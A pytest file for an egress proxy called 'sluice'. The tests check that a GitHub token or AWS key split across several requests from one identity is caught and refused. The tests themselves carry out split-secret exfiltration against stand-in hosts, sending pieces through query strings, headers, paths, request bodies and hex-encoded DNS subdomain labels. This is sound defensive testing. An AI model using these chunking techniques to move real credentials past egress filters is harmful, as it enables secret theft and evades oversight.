"""Secrets split across several requests of one identity (issue 8): each
request carries one piece, harmless alone; the request that completes the
secret is refused. The earlier pieces already left: that is the price of
not holding requests back, and why the audit says "split across N requests"."""

import http.client
import time
import uuid

import requests

from sluice_harness import rule_example as example  # the rules' own examples

GHP = example("github-pat-classic").split()[-1]
AWS = example("aws-access-key-id").split("=")[-1].strip()
assert GHP.startswith("ghp_") and len(GHP) == 40
assert len(AWS) == 20 and AWS.isupper()


def pieces(secret, n):
    k = -(-len(secret) // n)
    return [secret[i:i + k] for i in range(0, len(secret), k)]


def get(s, path, headers=None, source=None):
    """GET through sluice; `source` picks the client address (and so the identity)."""
    if source is None:
        return requests.get("http://upstream.test" + path, proxies=s.proxies, headers=headers or {})
    conn = http.client.HTTPConnection("127.0.0.1", s.port, timeout=10, source_address=(source, 0))
    conn.request("GET", "http://upstream.test" + path, headers=headers or {})
    r = conn.getresponse()
    r.read()
    conn.close()
    r.status_code = r.status
    return r


def last_refusal(s):
    for ev in reversed(s.audit(timeout=3)):
        if ev.get("verdict") == "block":
            return ev
    return None


def assert_completes(s, upstream, send, parts, rule):
    for i, p in enumerate(parts[:-1]):
        r = send(i, p)
        assert r.status_code != 403, "piece %d refused" % i
    r = send(len(parts) - 1, parts[-1])
    assert r.status_code == 403
    assert r.headers["X-Sluice-Blocked"] == rule
    ev = None
    deadline = time.monotonic() + 5
    while (ev is None or ev["rule"] != rule) and time.monotonic() < deadline:
        ev = last_refusal(s)
        time.sleep(0.05)
    assert ev is not None and ev["rule"] == rule
    assert "split across %d requests" % len(parts) in ev["reason"]
    text = s.audit_text() + s.stderr()
    assert "".join(parts) not in text
    # the completing request never reached the upstream; the earlier ones did
    assert len(upstream.snapshot()["requests"]) == len(parts) - 1


def test_github_token_split_over_query_parameter(proxy, upstream):
    parts = pieces(GHP, 5)
    assert_completes(proxy, upstream, lambda i, p: get(proxy, "/fixed?page=%d&d=%s" % (i, p)),
                     parts, "github-pat-classic")


def test_aws_key_split_over_header(proxy, upstream):
    parts = pieces(AWS, 3)
    assert_completes(proxy, upstream, lambda i, p: get(proxy, "/fixed", headers={"X-Data": p}),
                     parts, "aws-access-key-id")


def test_github_token_split_over_path_segments(proxy, upstream):
    parts = pieces(GHP, 4)
    assert_completes(proxy, upstream, lambda i, p: get(proxy, "/upload/%s" % p),
                     parts, "github-pat-classic")


def test_github_token_split_over_json_bodies(proxy, upstream):
    parts = pieces(GHP, 5)
    assert_completes(proxy, upstream,
                     lambda i, p: requests.post("http://upstream.test/echo", proxies=proxy.proxies,
                                                json={"event": "log", "seq": i, "data": p}),
                     parts, "github-pat-classic")


def test_aws_key_split_over_form_and_text_bodies(proxy, upstream):
    parts = pieces(AWS, 3)
    assert_completes(proxy, upstream,
                     lambda i, p: requests.post("http://upstream.test/echo", proxies=proxy.proxies,
                                                data={"chunk": p, "n": str(i)}),
                     parts, "aws-access-key-id")
    upstream.reset()
    parts = pieces(GHP, 4)
    assert_completes(proxy, upstream,
                     lambda i, p: requests.post("http://upstream.test/echo", proxies=proxy.proxies,
                                                data=p.encode(), headers={"Content-Type": "text/plain"}),
                     parts, "github-pat-classic")


def test_hex_encoded_key_split_over_subdomain_labels(sluice_factory, upstream):
    # DNS names are case-insensitive, so exfiltration through host labels
    # encodes first (hex here); the join is decoded like any other text.
    s = sluice_factory({"routes": [{"host": "*.exfil.test", "to": upstream.addr}]})
    parts = pieces(AWS.encode().hex(), 4)
    assert_completes(s, upstream,
                     lambda i, p: requests.get("http://%s.exfil.test/fixed" % p, proxies=s.proxies),
                     parts, "aws-access-key-id")


def two_identities(sluice_factory, extra=None):
    cfg = {"identities": [{"name": "agent-a", "sources": ["127.0.0.2/32"]},
                          {"name": "agent-b", "sources": ["127.0.0.3/32"]}]}
    cfg.update(extra or {})
    return sluice_factory(cfg)


def test_pieces_from_different_identities_do_not_combine(sluice_factory, upstream):
    s = two_identities(sluice_factory)
    parts = pieces(GHP, 4)
    for i, p in enumerate(parts):
        r = get(s, "/fixed?d=" + p, source="127.0.0.2" if i % 2 == 0 else "127.0.0.3")
        assert r.status_code == 200
    # one identity sending all of them is caught
    for i, p in enumerate(parts):
        r = get(s, "/fixed?e=" + p, source="127.0.0.3")
        assert r.status_code == (403 if i == len(parts) - 1 else 200)


def test_pieces_outside_the_window_do_not_combine(sluice_factory, upstream):
    s = sluice_factory({"inspect": {"history": {"window": "1s"}}})
    parts = pieces(AWS, 3)
    for p in parts:
        assert get(s, "/fixed?d=" + p).status_code == 200
        time.sleep(1.3)
    # within the window it would have been refused
    for i, p in enumerate(parts):
        assert get(s, "/fixed?e=" + p).status_code == (403 if i == 2 else 200)


def test_history_can_be_switched_off(sluice_factory, upstream):
    s = sluice_factory({"inspect": {"history": {"enabled": False}}})
    for p in pieces(GHP, 4):
        assert get(s, "/fixed?d=" + p).status_code == 200


def test_benign_repeated_requests_do_not_trigger(proxy, upstream):
    t0 = int(time.time())
    cursor = "eyJpZCI6IDEyMzR9"
    for i in range(40):
        headers = {"X-Request-Id": str(uuid.uuid4()),
                   "traceparent": "00-%s-%s-01" % (uuid.uuid4().hex, uuid.uuid4().hex[:16]),
                   "X-Timestamp": str(t0 + i),
                   "Cookie": "session=" + "s3ss10n" * 4,
                   "If-None-Match": '"%s"' % uuid.uuid4().hex}
        path = "/items/%d/page/%d?offset=%d&limit=50&cursor=%s&ts=%d&since=%s&q=%s" % (
            1000 + i, i, i * 50, cursor, int(time.time() * 1000) + i, time.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "how to bake bread number %d" % i)
        r = get(proxy, path, headers=headers)
        assert r.status_code != 403, (i, r.headers.get("X-Sluice-Blocked"))
        r = requests.post("http://upstream.test/echo", proxies=proxy.proxies,
                          json={"id": str(uuid.uuid4()), "page": i, "ts": time.time(),
                                "cursor": cursor, "text": "how to bake bread number %d" % i})
        assert r.status_code != 403, (i, r.headers.get("X-Sluice-Blocked"))
        cursor = uuid.uuid4().hex + uuid.uuid4().hex[:8]
